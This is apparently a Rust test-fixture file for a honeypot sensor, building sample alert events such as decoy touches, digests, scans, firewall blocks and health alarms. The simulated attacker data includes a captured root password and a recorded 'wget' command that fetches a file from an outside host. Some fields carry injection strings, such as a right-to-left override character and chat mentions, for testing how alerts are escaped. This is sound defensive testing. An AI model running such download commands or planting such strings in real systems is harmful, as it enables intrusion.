//! One event for every kind of news, and for singular and plural where both are told, with fixed ids and times.

use std::net::IpAddr;

use smol_str::SmolStr;
use trapline_schemas::{Action, Event, Field, Timestamp, Value};
use uuid::Uuid;

/// 2026-03-04T10:15:30.123456Z.
const NOON: i64 = 1_772_619_330_123_456;

const MINUTE: i64 = 60_000_000;

fn event(action: Action, facts: &[(Field, Value)]) -> Event {
    let at = Timestamp::from_micros(NOON);
    let mut event = Event::new(Uuid::from_u128(0x0195_6123_aaaa_7000_8000_0000_0000_0001), at, action);
    event.set(Field::ObserverName, "lure-dmz-01");
    event.set(Field::Site, "lyon");
    facts.iter().for_each(|(field, value)| event.set(*field, value.clone()));
    event
}

fn texts(words: &[&str]) -> Value {
    words.iter().map(SmolStr::new).collect::<Vec<_>>().into()
}

fn ip(text: &str) -> Value {
    text.parse::<IpAddr>().unwrap().into()
}

/// A touch from inside, by a source of which much is known.
fn touch(action: Action, level: &str, facts: &[(Field, Value)]) -> Event {
    let mut event = event(action, facts);
    for (field, value) in [
        (
            Field::IncidentId,
            Value::Id(Uuid::from_u128(0xcc14_e20d_ad03_86c5_884b_b4cd_8019_8964)),
        ),
        (Field::SourceIp, ip("10.3.4.7")),
        (Field::SourceMac, "00-00-5E-00-53-23".into()),
        (Field::SourceDomain, "ws-0417.corp.example".into()),
        (Field::SourceZone, "inside".into()),
        (Field::SourceZoneInside, true.into()),
        (Field::SourceOwner, "net_team".into()),
        (Field::TouchLevel, level.into()),
        (Field::DecoyId, "ssh".into()),
        (Field::DecoyService, "ssh".into()),
        (Field::DestinationIp, ip("10.20.30.40")),
        (Field::DestinationPort, 22_i64.into()),
        (Field::NetworkTransport, "tcp".into()),
    ] {
        event.set(field, value);
    }
    event
}

/// Every kind of news, with a title.
pub fn all() -> Vec<(String, Event)> {
    let mut news = touches();
    news.extend(digests());
    news.extend(findings());
    news.extend(acts());
    news.extend(health());
    news.extend(host());
    news.extend(to_owners());
    news.into_iter()
        .map(|(title, event)| (title.to_owned(), event))
        .collect()
}

/// What the owner of a source is told, and what the event holds besides.
fn to_owners() -> Vec<(&'static str, Event)> {
    let released = |level: &str, facts: &[(Field, Value)]| {
        let mut event = touch(Action::NoticeReleased, level, facts);
        event.remove(Field::DecoyId);
        event.set(Field::EventStart, Timestamp::from_micros(NOON - 15 * MINUTE));
        event.set(Field::EventEnd, Timestamp::from_micros(NOON));
        event.set(Field::EventReason, "seen with the team");
        event.set(Field::ReleaseTo, "lab@example.org");
        event
    };
    let person = [
        (Field::ReleaseBy, "alice".into()),
        (Field::ReleaseServices, texts(&["ssh", "telnet"])),
        (Field::FindingHits, 412_i64.into()),
        (Field::EventDuration, 900_000_000_000_i64.into()),
    ];
    let act = [
        (Field::ReleaseBy, "enforcement".into()),
        (Field::ReleaseServices, texts(&["http"])),
        (Field::FindingHits, 1_i64.into()),
    ];
    vec![
        ("to an owner, by a person", released("proof", &person)),
        ("to an owner, by enforcement", released("intent", &act)),
        (
            "to an owner, of which little is known",
            released("contact", &person[..1]),
        ),
    ]
}

fn touches() -> Vec<(&'static str, Event)> {
    let password = [
        (Field::CredentialKind, "password".into()),
        (Field::CredentialSecret, "hunter2".into()),
        (Field::EventSequence, 3_i64.into()),
        (Field::UserName, "root".into()),
        (Field::SshClientVersion, "SSH-2.0-libssh_0.9.6".into()),
    ];
    let path = [
        (Field::UrlOriginal, "http://evil.example/x?y=1\u{202e}".into()),
        (Field::UserAgent, "Mozilla/5.0 (compatible; @everyone)".into()),
    ];
    let mut taken = password.to_vec();
    taken.push((Field::CredentialAccepted, true.into()));
    let orders = [(Field::Commands, texts(&["cd /tmp", "wget http://198.51.100.9/x"]))];
    let declared = [
        (Field::BenignName, "vulnerability_scanner".into()),
        (Field::BenignReason, "declared in the configuration".into()),
    ];
    let test = [
        (Field::BenignName, "send-test".into()),
        (
            Field::BenignReason,
            "test event of `trapline send-test`: no decoy was touched".into(),
        ),
    ];
    vec![
        ("contact", touch(Action::Connect, "contact", &[])),
        ("contact by a datagram from outside", datagram()),
        ("intent", touch(Action::Handshake, "intent", &path)),
        ("proof: a password", touch(Action::Credential, "proof", &password)),
        (
            "proof: a password that the decoy pretended to accept",
            touch(Action::Credential, "proof", &taken),
        ),
        ("proof: orders", touch(Action::Query, "proof", &orders)),
        ("benign", touch(Action::Connect, "contact", &declared)),
        ("test", touch(Action::Connect, "contact", &test)),
        (
            "a touch of which nothing is known",
            Event::new(Uuid::nil(), Timestamp::from_micros(NOON), Action::Connect),
        ),
    ]
}

fn datagram() -> Event {
    let mut event = touch(Action::UdpProbe, "contact", &[]);
    for field in [Field::SourceMac, Field::SourceDomain, Field::SourceOwner] {
        event.remove(field);
    }
    for (field, value) in [
        (Field::SourceIp, ip("2001:db8:77::5")),
        (Field::SourceZone, "external".into()),
        (Field::SourceZoneInside, false.into()),
        (Field::SourceSpoofable, true.into()),
        (Field::SourceSharedAddress, true.into()),
        (Field::SourcePackets, 12_i64.into()),
        (Field::SourceGeoCountryName, "Atlantis".into()),
        (Field::SourceAsNumber, 64_500_i64.into()),
        (Field::SourceAsName, "evil.example <b>".into()),
        (Field::DecoyId, "snmp".into()),
        (Field::DecoyService, "snmp".into()),
        (Field::DestinationPort, 161_i64.into()),
        (Field::NetworkTransport, "udp".into()),
    ] {
        event.set(field, value);
    }
    event
}

/// What every window has.
fn window(action: Action, hits: i64, facts: &[(Field, Value)]) -> Event {
    let mut event = event(action, facts);
    event.set(Field::EventStart, Timestamp::from_micros(NOON - 15 * MINUTE));
    event.set(Field::EventEnd, Timestamp::from_micros(NOON));
    event.set(Field::EventDuration, 15 * MINUTE * 1000);
    event.set(Field::FindingHits, hits);
    event
}

fn digests() -> Vec<(&'static str, Event)> {
    let of_one = [
        (
            Field::IncidentId,
            Value::Id(Uuid::from_u128(0xcc14_e20d_ad03_86c5_884b_b4cd_8019_8964)),
        ),
        (Field::SourceIp, ip("203.0.113.77")),
        (Field::SourceZone, "external".into()),
        (Field::SourceZoneInside, false.into()),
        (Field::TouchLevel, "proof".into()),
        (
            Field::DigestActions,
            texts(&["decoy-credential=380", "decoy-connect=32", "session-end=30"]),
        ),
        (Field::DigestPassed, 1_i64.into()),
        (Field::DigestUsers, texts(&["root", "admin", "a.b@evil.example"])),
        (Field::DigestUserCount, 3_i64.into()),
        (Field::ScanDecoys, texts(&["ftp", "ssh", "telnet"])),
        (Field::ScanDecoyCount, 3_i64.into()),
        (Field::ScanPorts, vec![21_i64, 22, 23].into()),
        (Field::ScanPortCount, 3_i64.into()),
    ];
    let sources = ["203.0.113.77", "2001:db8:77::5"].map(|text| text.parse::<IpAddr>().unwrap());
    let of_many = [
        (Field::DecoyId, "ssh".into()),
        (Field::DecoyService, "ssh".into()),
        (Field::DestinationPort, 22_i64.into()),
        (Field::TouchLevel, "contact".into()),
        (Field::DigestActions, texts(&["decoy-connect=2"])),
        (Field::DigestSources, sources.to_vec().into()),
        (Field::DigestSourceCount, 77_i64.into()),
        (Field::TransformName, "by_decoy".into()),
        (Field::TransformKey, "ssh".into()),
    ];
    let others = [
        (Field::DigestActions, texts(&["decoy-connect=41"])),
        (Field::DigestSourceCount, 7_i64.into()),
        (Field::ScanDecoyCount, 3_i64.into()),
        (Field::TouchLevel, "contact".into()),
        (Field::TransformName, "notices/mail".into()),
        (Field::TransformKey, "(others)".into()),
    ];
    let act = [
        (Field::SourceIp, ip("203.0.113.77")),
        (Field::DigestActions, texts(&["unblock-ip=1"])),
    ];
    let only = [
        (Field::SourceIp, ip("10.3.4.7")),
        (Field::DecoyId, "ssh".into()),
        (Field::TouchLevel, "contact".into()),
        (Field::DigestActions, texts(&["decoy-connect=1"])),
    ];
    vec![
        ("digest of one source", window(Action::Digest, 442, &of_one)),
        ("digest of many sources", window(Action::Digest, 1204, &of_many)),
        ("digest of a single touch", window(Action::Digest, 1, &only)),
        ("digest of those without room", window(Action::Digest, 41, &others)),
        ("digest of an act", window(Action::Digest, 1, &act)),
    ]
}

fn findings() -> Vec<(&'static str, Event)> {
    let scan = |status: &str, decoys: i64, ports: i64| {
        [
            (Field::SourceIp, ip("10.20.31.15")),
            (Field::SourceZoneInside, true.into()),
            (Field::SourceZone, "inside".into()),
            (Field::FindingStatus, status.into()),
            (Field::ScanDecoyCount, decoys.into()),
            (Field::ScanDecoys, texts(&["ftp", "ssh", "telnet", "http"])),
            (Field::ScanPortCount, ports.into()),
            (Field::ScanPorts, vec![21_i64, 22, 23, 80, 443].into()),
        ]
    };
    let key = |key: &str| {
        [
            (Field::TransformName, "quiet".into()),
            (Field::TransformKey, key.into()),
        ]
    };
    let sources = [(Field::DigestSourceCount, 7_i64.into())];
    vec![
        ("scan", window(Action::Scan, 26, &scan("new", 4, 5))),
        ("scan of one decoy", window(Action::Scan, 26, &scan("updated", 1, 5))),
        ("scan over", window(Action::Scan, 26, &scan("closed", 4, 5))),
        ("folded", window(Action::HeldBack, 41, &sources)),
        (
            "folded, one",
            window(Action::HeldBack, 1, &key("<!channel> evil.example")),
        ),
        (
            "folded of one source",
            window(Action::SourceFolded, 12_345, &[(Field::SourceIp, ip("203.0.113.77"))]),
        ),
        (
            "digest of news of trapline",
            window(Action::Digest, 7, &[(Field::DigestActions, texts(&["sink-failed=7"]))]),
        ),
    ]
}

fn acts() -> Vec<(&'static str, Event)> {
    let act = |action: Action, facts: &[(Field, Value)]| {
        let mut event = event(action, facts);
        for (field, value) in [
            (Field::SourceIp, ip("203.0.113.77")),
            (Field::ResponseKind, verb(action).into()),
            (Field::ResponseRule, "credentials".into()),
            (Field::ResponseTarget, "firewall".into()),
            (Field::ResponseTtl, 3600_i64.into()),
            (
                Field::ResponseExpires,
                Timestamp::from_micros(NOON + 60 * MINUTE).into(),
            ),
        ] {
            event.set(field, value);
        }
        event
    };
    let state = |state: &str| [(Field::ResponseState, state.into())];
    let failed = [
        (Field::ErrorType, "netlink".into()),
        (Field::ErrorMessage, "operation not permitted".into()),
    ];
    let mut news = vec![
        ("blocked", act(Action::Block, &state("enforced"))),
        (
            "blocked, of which little is known",
            event(Action::Block, &[(Field::SourceIp, ip("203.0.113.77"))]),
        ),
        ("lifted", act(Action::Unblock, &state("lifted"))),
        ("tagged", act(Action::Tag, &state("enforced"))),
        ("untagged", act(Action::Untag, &state("lifted"))),
        ("sinkholed", act(Action::Sinkhole, &state("enforced"))),
        ("sinkholed no longer", act(Action::Unsinkhole, &state("lifted"))),
        ("listed", act(Action::List, &state("enforced"))),
        ("listed no longer", act(Action::Unlist, &state("lifted"))),
        ("failed", act(Action::Block, &failed)),
        ("failed to be undone", act(Action::Unblock, &failed)),
        ("a trial", act(Action::Block, &[(Field::ResponseDryRun, true.into())])),
    ];
    news.extend(decisions());
    news
}

fn verb(action: Action) -> &'static str {
    match action {
        Action::Tag | Action::Untag => "tag",
        Action::Sinkhole | Action::Unsinkhole => "sinkhole",
        Action::List | Action::Unlist => "list",
        _ => "block",
    }
}

fn decisions() -> Vec<(&'static str, Event)> {
    let decided = |state: &str, facts: &[(Field, Value)]| {
        let mut event = event(Action::Decided, facts);
        for (field, value) in [
            (Field::SourceIp, ip("203.0.113.77")),
            (
                Field::ResponseId,
                Value::Id(Uuid::from_u128(0x0c94_3877_2999_843c_9640_63d3_a675_6337)),
            ),
            (Field::ResponseRule, "credentials".into()),
            (Field::ResponseState, state.into()),
            (Field::ResponseVerbs, texts(&["block", "sinkhole"])),
            (Field::ResponseTtl, 3600_i64.into()),
            (
                Field::ResponseExpires,
                Timestamp::from_micros(NOON + 60 * MINUTE).into(),
            ),
        ] {
            event.set(field, value);
        }
        event
    };
    let network = [
        (Field::ResponseNetwork, "203.0.113.0/24".into()),
        (Field::ResponseStep, 2_i64.into()),
    ];
    let person = [
        (Field::ResponseBy, "alice".into()),
        (Field::ResponseUid, 1000_i64.into()),
        (Field::ResponseReason, "seen with the team".into()),
    ];
    let reason = |reason: &str| [(Field::ResponseReason, reason.into())];
    let mended = |entries: i64| {
        let facts = [
            (Field::ResponseTarget, "firewall".into()),
            (Field::ResponseRepaired, entries.into()),
        ];
        event(Action::Repaired, &facts)
    };
    vec![
        ("observed", decided("observed", &[])),
        ("proposed", decided("proposed", &[])),
        ("decided", decided("decided", &[])),
        ("decided about a network", decided("decided", &network)),
        ("approved", decided("approved", &person)),
        (
            "approved by the API",
            decided("approved", &[(Field::ResponseBy, "portal".into())]),
        ),
        ("rejected", decided("rejected", &person)),
        (
            "not answered",
            decided(
                "ended",
                &[
                    (Field::ResponseDryRun, true.into()),
                    (Field::ResponseReason, "nobody answered in time".into()),
                ],
            ),
        ),
        ("extended", decided("extended", &[])),
        ("refused", decided("refused", &reason("it is the gateway of this host"))),
        ("ended", decided("ended", &reason("the time is over"))),
        ("ended by a person", decided("ended", &person)),
        ("repaired", mended(3)),
        ("repaired, one entry", mended(1)),
    ]
}

fn health() -> Vec<(&'static str, Event)> {
    let failed = |queued: i64| {
        [
            (Field::SinkName, "siem".into()),
            (Field::SinkQueued, queued.into()),
            (Field::SinkRetries, 12_i64.into()),
            (Field::ErrorType, "server".into()),
            (
                Field::ErrorMessage,
                "collector answered 503: see http://status.example/".into(),
            ),
        ]
    };
    let recovered = [
        (Field::SinkName, "siem".into()),
        (Field::EventDuration, (40 * MINUTE * 1000).into()),
        (
            Field::EventReason,
            "works again after 2400 s and 12 failed tries".into(),
        ),
    ];
    let trimmed = [
        (Field::SinkName, "siem".into()),
        (Field::FindingHits, 640_i64.into()),
        (Field::GapFirst, 1_i64.into()),
        (Field::GapLast, 640_i64.into()),
        (Field::EventReason, "trimmed to 10 GiB".into()),
    ];
    let dropped = [
        (Field::DecoyId, "snmp".into()),
        (Field::DecoyService, "snmp".into()),
        (Field::FindingHits, 1_i64.into()),
        (
            Field::EventReason,
            "the kernel dropped them, they came faster than they were read".into(),
        ),
    ];
    vec![
        ("sink failed", event(Action::SinkFailed, &failed(1840))),
        ("sink failed, one waits", event(Action::SinkFailed, &failed(1))),
        ("sink recovered", event(Action::SinkRecovered, &recovered)),
        ("gap of a sink", event(Action::JournalGap, &trimmed)),
        ("gap of one datagram", event(Action::JournalGap, &dropped)),
        ("gap of unknown size", event(Action::JournalGap, &[])),
    ]
}

fn host() -> Vec<(&'static str, Event)> {
    let refused = |mistakes: i64| {
        [
            (Field::ConfigMistakes, mistakes.into()),
            (Field::ErrorType, "config".into()),
            (Field::ErrorMessage, "trapline.toml:7:11: unknown service `shs`".into()),
        ]
    };
    let reason = |reason: &str| [(Field::EventReason, reason.into())];
    let decoy = [
        (Field::DecoyId, "ssh".into()),
        (Field::DecoyService, "ssh".into()),
        (Field::DestinationPort, 22_i64.into()),
        (Field::ErrorType, "bind".into()),
        (Field::ErrorMessage, "address already in use".into()),
    ];
    let alarm = [
        (Field::ErrorType, "clock".into()),
        (Field::EventReason, "went forward by 86400 s".into()),
    ];
    vec![
        ("configuration refused", event(Action::ConfigRefused, &refused(3))),
        (
            "configuration refused for one mistake",
            event(Action::ConfigRefused, &refused(1)),
        ),
        (
            "configuration reloaded",
            event(Action::ConfigReloaded, &reason("decoy ftp added, sink siem changed")),
        ),
        ("listener failed", event(Action::ListenerFailed, &decoy)),
        ("host alarm", event(Action::HostAlarm, &alarm)),
        ("chain broken", event(Action::ChainBreak, &[])),
        ("listener started", event(Action::ListenerStarted, &decoy[..3])),
        ("sensor stopped", event(Action::SensorStopped, &reason("signal"))),
        (
            "state recovered",
            event(Action::Recovered, &reason("3 elements of the block set")),
        ),
        (
            "chain head",
            event(Action::ChainHead, &[(Field::JournalSequence, 4711_i64.into())]),
        ),
        (
            "a canary",
            event(Action::Canary, &reason("sent by the clock, see `[canary]`")),
        ),
        ("something newer", event(Action::Other, &[])),
    ]
}
